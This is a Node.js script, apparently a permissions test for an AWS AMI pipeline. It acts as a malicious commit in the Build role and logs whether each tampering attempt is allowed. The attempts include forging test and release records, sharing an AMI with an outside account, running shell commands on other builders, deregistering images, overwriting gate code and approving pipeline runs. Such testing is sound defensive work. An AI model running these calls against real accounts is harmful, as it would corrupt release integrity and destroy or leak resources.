// What a malicious commit runs in Build, with the role of Build: it tries everything that would take an AMI past the gates,
// and prints how each attempt ended. `loot.json` beside it names what it is after.
const { readFileSync } = require("node:fs");
const ec2Api = require("@aws-sdk/client-ec2");
const pipelineApi = require("@aws-sdk/client-codepipeline");
const s3Api = require("@aws-sdk/client-s3");
const ssmApi = require("@aws-sdk/client-ssm");
const loot = JSON.parse(readFileSync("loot.json", "utf8"));

const options = { region: process.env.AWS_REGION, maxAttempts: 1 };
const ec2 = new ec2Api.EC2Client(options);
const s3 = new s3Api.S3Client({ ...options, forcePathStyle: true });
const ssm = new ssmApi.SSMClient(options);
const codePipeline = new pipelineApi.CodePipelineClient(options);

const tag = (ami, Key, Value) => () =>
  ec2.send(new ec2Api.CreateTagsCommand({ Resources: [ami], Tags: [{ Key: `ami-pipeline:${Key}`, Value }] }));
const put = (Key, extra) => () =>
  s3.send(new s3Api.PutObjectCommand({ Bucket: loot.bucket, Key, Body: "{}", ...extra }));
const build = process.env.CODEBUILD_BUILD_ARN;
const own = [
  { Key: "ami-pipeline", Value: process.env.FACTORY },
  { Key: "ami-pipeline:purpose", Value: "builder" },
  { Key: "ami-pipeline:build", Value: build },
];
/** A launch as Packer makes it, but for its AMI. */
const launch = (ImageId) => () =>
  ec2.send(
    new ec2Api.RunInstancesCommand({
      ImageId,
      InstanceType: "t3.small",
      MinCount: 1,
      MaxCount: 1,
      SubnetId: process.env.SUBNET_ID,
      SecurityGroupIds: [process.env.SECURITY_GROUP_ID],
      IamInstanceProfile: { Name: process.env.INSTANCE_PROFILE },
      MetadataOptions: { HttpTokens: "required" },
      BlockDeviceMappings: [{ DeviceName: "/dev/sda1", Ebs: { Encrypted: true } }],
      TagSpecifications: ["instance", "volume", "network-interface"].map((ResourceType) => ({
        ResourceType,
        Tags: own,
      })),
    }),
  );

const attempts = {
  "say that the candidate is tested": tag(loot.candidate, "tested", "2026-01-01T00:00:00Z"),
  "release the candidate": tag(loot.candidate, "state", "released"),
  "give the candidate another image's name": tag(loot.candidate, "image", "other"),
  "give the candidate a clean fingerprint": tag(loot.candidate, "fingerprint", loot.fingerprint),
  "reject the release": tag(loot.release, "state", "rejected"),
  "withdraw the release": tag(loot.release, "withdrawn", "2026-01-01T00:00:00Z"),
  "take the candidate's tags away": () =>
    ec2.send(new ec2Api.DeleteTagsCommand({ Resources: [loot.candidate], Tags: [{ Key: "ami-pipeline:commit" }] })),
  "share the release": () =>
    ec2.send(
      new ec2Api.ModifyImageAttributeCommand({
        ImageId: loot.release,
        LaunchPermission: { Add: [{ UserId: "666666666666" }] },
      }),
    ),
  "deregister the release": () => ec2.send(new ec2Api.DeregisterImageCommand({ ImageId: loot.release })),
  "deregister the candidate": () => ec2.send(new ec2Api.DeregisterImageCommand({ ImageId: loot.candidate })),
  "reach another build's builder": () =>
    ssm.send(
      new ssmApi.StartSessionCommand({
        Target: loot.builder,
        DocumentName: "AWS-StartPortForwardingSession",
        Parameters: { portNumber: ["22"] },
      }),
    ),
  "run a command on another build's builder": () =>
    ssm.send(
      new ssmApi.SendCommandCommand({
        InstanceIds: [loot.builder],
        DocumentName: "AWS-RunShellScript",
        Parameters: { commands: ["id"] },
      }),
    ),
  "end another build's builder": () => ec2.send(new ec2Api.TerminateInstancesCommand({ InstanceIds: [loot.builder] })),
  "make an image of another build's builder": () =>
    ec2.send(
      new ec2Api.CreateImageCommand({
        InstanceId: loot.builder,
        Name: "stolen",
        TagSpecifications: ["image", "snapshot"].map((ResourceType) => ({
          ResourceType,
          Tags: [...own, { Key: "ami-pipeline:state", Value: "building" }],
        })),
      }),
    ),
  "launch an unmarked AMI of the account": launch(loot.unmarked),
  "launch another build's candidate": launch(loot.candidate),
  "copy an unmarked AMI of the account": () =>
    ec2.send(new ec2Api.CopyImageCommand({ SourceImageId: loot.unmarked, SourceRegion: options.region, Name: "mine" })),
  "replace the source of another run": put(`${loot.artifacts}/Source/another-run`),
  "replace the gates' code in a run": put(`${loot.artifacts}/Gates/another-run`),
  "replace the gates' code": put(loot.gates),
  "replace the publish settings": put("settings/publish.json"),
  "forge a test record": put(`amis/${loot.candidate}/tests.json`, { IfNoneMatch: "*" }),
  "replace the record of a build": put(`amis/${loot.release}/build.json`),
  "forge a release record": put(`releases/${process.env.IMAGE}/${loot.candidate}/2026-01-01T00:00:00.000Z.json`, {
    IfNoneMatch: "*",
  }),
  "move the parameter": () =>
    ssm.send(new ssmApi.PutParameterCommand({ Name: loot.parameter, Value: loot.candidate, Overwrite: true })),
  "start a pipeline": () => codePipeline.send(new pipelineApi.StartPipelineExecutionCommand({ name: loot.pipeline })),
  "approve a run": () =>
    codePipeline.send(
      new pipelineApi.PutApprovalResultCommand({
        pipelineName: loot.pipeline,
        stageName: "Approve",
        actionName: "Approve",
        token: "00000000-0000-0000-0000-000000000000",
        result: { status: "Approved", summary: "mine" },
      }),
    ),
};

async function main() {
  for (const [what, attempt] of Object.entries(attempts)) {
    const outcome = await attempt().then(
      () => "allowed",
      (error) => `${error.name}: ${error.message}`.replaceAll("\n", " "),
    );
    console.log(`ATTEMPT ${what}: ${outcome}`);
  }
}

void main();
